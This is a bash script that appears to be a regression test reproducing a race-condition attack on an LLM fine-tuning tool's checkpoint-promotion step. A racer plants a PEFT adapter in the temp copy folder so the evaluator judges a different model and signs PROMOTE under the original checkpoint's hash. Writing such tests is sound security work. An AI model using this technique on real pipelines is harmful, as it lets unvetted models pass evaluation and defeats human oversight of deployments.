#!/bin/bash
# r18 b02 (forged PROMOTE): promote-checkpoint loads the checkpoint from a private copy made by tempfile.mkdtemp in
# $TMPDIR (evaluation/checked_load.load_checked); transformers' from_pretrained loads any adapter_config.json found
# in that folder as a PEFT adapter over the checkpoint, and saved_weight_problems compares only the base tensors
# (LoRA and modules_to_save tensors are left out), so it passes. A racer plants an adapter there (built here: the
# SFT warm-start's weights carried as a rank-64 LoRA on q_proj plus modules_to_save of every other module): the
# promotion judges another model under the checkpoint's hash and signs PROMOTE. The same run's checkpoint judged
# without the plant: REJECT. The baseline is measured at 48 new tokens (no --run: the SFT weights need room for their format). Exit 1 while the break exists (a signed PROMOTE after the plant, REJECT without), 0 once
# fixed. usage: b02_promote_adapter_plant.sh [WS]
set -u
REPO=${REPO:-$(cd "$(dirname "$0")/../.." && pwd)}; PY=${PY:-$REPO/.venv/bin/python}; export PYTHONPATH=$REPO REPO PY
HERE=$(cd "$(dirname "$0")" && pwd)
WS=${1:-/tmp/hostile_r18_b02ws}; export LLM_FINETUNING_STATE_DIR=${WS}_state
R=$(STEPS=2 timeout 900 bash "$REPO/bench/hostile_r16/setup.sh" "$WS" | tail -1) || { echo "setup failed"; exit 2; }
cd "$WS"; export LLM_FINETUNING_WORKSPACE="$WS"; CLI="$PY -m mcp_server.cli"
timeout 600 $CLI launch-training "$R" > launch.log 2>&1; echo "launch rc=$?"
st=none
for i in $(seq 1 120); do
  st=$(timeout 120 $CLI training-status "$R" --json 2>/dev/null | $PY -c 'import json,sys; print(json.load(sys.stdin).get("state"))' 2>/dev/null)
  case "$st" in succeeded|failed|stopped) break;; esac; sleep 5; done
echo "training: $st"; [ "$st" = succeeded ] || exit 2
timeout 900 $CLI evaluate-model "$WS/models/tiny" --goldens tiny --max-new-tokens 48 > baseline.log 2>&1; echo "baseline rc=$? $(grep -m1 -i 'pass rate\|goldens' baseline.log | cut -c1-160)"
# the honest judgement first (no plant)
timeout 900 $CLI promote-checkpoint "$R" > promote-honest.log 2>&1; echo "honest promote rc=$? $(grep -m1 -E 'PROMOTE|REJECT' promote-honest.log | cut -c1-200)"
honest=$(grep -m1 -oE 'PROMOTE|REJECT' promote-honest.log)
rm -f "$R/promotion.json" "$R/promotion-report.md"   # the person clears the last judgement to judge again
"$PY" "$HERE/make_swap_adapter.py" "$WS/models/tiny" "$REPO/mcp_server/tiny_warm_start" "$WS.adapter" > /dev/null 2>&1
"$PY" - "$WS.adapter/adapter_config.json" "$R/checkpoints" <<'PY'
import json, sys
c = json.load(open(sys.argv[1])); c["base_model_name_or_path"] = sys.argv[2]; json.dump(c, open(sys.argv[1], "w"))
PY
mkdir -p "$WS/tmp"; rm -f "$WS.racer.log"
"$PY" "$HERE/plant_racer.py" "$WS/tmp" "$WS.racer.log" "adapter:$WS.adapter" & RACER=$!
sleep 1
TMPDIR="$WS/tmp" timeout 900 $CLI promote-checkpoint "$R" > promote.log 2>&1; rc=$?
kill $RACER 2>/dev/null
echo "racer: $(tr '\n' ' ' < "$WS.racer.log")"
echo "promote with the plant: rc=$rc"; grep -E '^(PROMOTE|REJECT)|^  goldens:' promote.log | cut -c1-300
v=$("$PY" -c "import json; d=json.load(open('$R/promotion.json')); print(d.get('verdict'), 'mac' in d)" 2>/dev/null)
echo "promotion.json: $v (honest: $honest)"
if [ "$v" = "PROMOTE True" ] && [ "$honest" = REJECT ]; then echo BROKEN; exit 1; fi
echo HELD; exit 0
